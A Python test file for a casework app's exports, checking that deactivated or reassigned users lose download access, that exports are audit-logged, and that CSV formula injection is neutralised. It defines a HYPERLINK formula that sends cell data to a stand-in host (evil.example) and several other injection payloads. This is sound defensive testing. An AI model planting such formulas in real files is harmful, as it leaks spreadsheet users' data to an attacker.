"""Attacks of the security audit (issue 15) on what leaves Pantau as a file: a download
from a page drawn before the account changed (finding 4), a formula in a CSV cell
(finding 6), and an export that leaves no trace (finding 14)."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from sqlmodel import Session, select

from casework import admin
from casework.analytics import figures
from casework.analytics.filters import DashboardFilters
from casework.desk.workflow import Action
from casework.errors import PermissionDenied
from casework.people.actors import actor_for
from casework.people.auth import set_user_active
from casework.people.roles import OrgKind, Role
from casework.records.dsa_export import indonesian_record_file
from casework.records.exports import ExportFile, export
from casework.spreadsheet import csv_bytes, frame_csv, table_csv
from db.models import AuditEvent
from db.read_model import ReadModel
from tests.factories import advance, make_actor, make_case, make_desk, make_organisation

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"klik")'


def statements(session, actor) -> bytes:
    return export(
        session=session,
        actor=actor,
        kind="statements_of_reasons",
        build=lambda s, fresh: _record(s, fresh),
    )


def _record(session, fresh) -> ExportFile:
    return indonesian_record_file(session=session, actor=fresh, gettext=str)


def _statement_count(data: bytes) -> int:
    return len(json.loads(data)["statements"])


@pytest.fixture
def decided(session):
    desk = make_desk(session, platform_code="tiktok")
    case = make_case(session, actor=desk.officer)
    advance(session, desk, case, Action.START_REVIEW, Action.REFER_TO_PLATFORM)
    advance(session, desk, case, Action.RECORD_DECISION)
    return desk


def test_a_liaison_deactivated_after_the_page_was_drawn_downloads_no_statements(session, decided):
    drawn_as = decided.liaison  # the actor the page captured
    boss = make_actor(session, role=Role.ADMIN)
    assert _statement_count(statements(session, drawn_as)) == 1

    set_user_active(session=session, actor=boss, user_id=drawn_as.user_id, active=False)

    with pytest.raises(PermissionDenied):
        statements(session, drawn_as)


def test_an_officer_moved_to_a_regional_office_cannot_download_with_the_old_national_scope(
    session, decided
):
    drawn_as = decided.officer
    boss = make_actor(session, role=Role.ADMIN)
    regional = make_organisation(session, kind=OrgKind.SUPERVISORY, region_code="32")
    admin.change_organisation(
        session=session, actor=boss, user_id=drawn_as.user_id, organisation_id=regional.id
    )

    with pytest.raises(PermissionDenied):
        statements(session, drawn_as)
    # Drawn again, as who they are now, the download works within the new scope.
    assert statements(session, actor_for(session, drawn_as.user_id)) is not None


def test_every_export_leaves_an_audit_event_with_the_actor_filters_and_row_count(session, decided):
    export(
        session=session,
        actor=decided.liaison,
        kind="statements_of_reasons",
        build=_record,
        filters={"platform": "tiktok"},
    )

    event = session.exec(select(AuditEvent).where(AuditEvent.action == "data_exported")).one()
    assert event.actor_id == decided.liaison.user_id
    assert event.detail == {
        "kind": "statements_of_reasons",
        "filters": {"platform": "tiktok"},
        "rows": 1,
    }


@pytest.mark.parametrize(
    "write",
    [
        lambda value: csv_bytes([["handle"], [value]]),
        lambda value: frame_csv(pd.DataFrame({"handle": [value], "cases": [-3]})),
        lambda value: table_csv(__import__("pyarrow").table({"handle": [value], "n": [-3]})),
    ],
    ids=["rows", "chart-data", "arrow-table"],
)
@pytest.mark.parametrize("formula", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1"])
def test_a_formula_in_any_csv_export_reaches_the_spreadsheet_as_text(write, formula):
    cells = [c for row in csv.reader(io.StringIO(write(formula).decode("utf-8-sig"))) for c in row]

    assert "'" + formula in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert "-3" in cells or "handle" in cells  # numbers stay numbers


def test_an_account_handle_filed_as_a_formula_is_text_in_the_dashboards_case_csv(
    file_database,
):
    url, engine = file_database
    with Session(engine) as session:
        officer = make_actor(session, role=Role.OFFICER)
        make_case(session, actor=officer, account_handle=FORMULA)
    model = ReadModel(url)
    try:
        table = figures.case_rows(actor=officer, filters=DashboardFilters(), model=model)
    finally:
        model.close()

    rows = list(csv.reader(io.StringIO(table_csv(table).decode("utf-8-sig"))))
    handles = [row[rows[0].index("account_handle")] for row in rows[1:]]
    assert handles == ["'" + FORMULA]
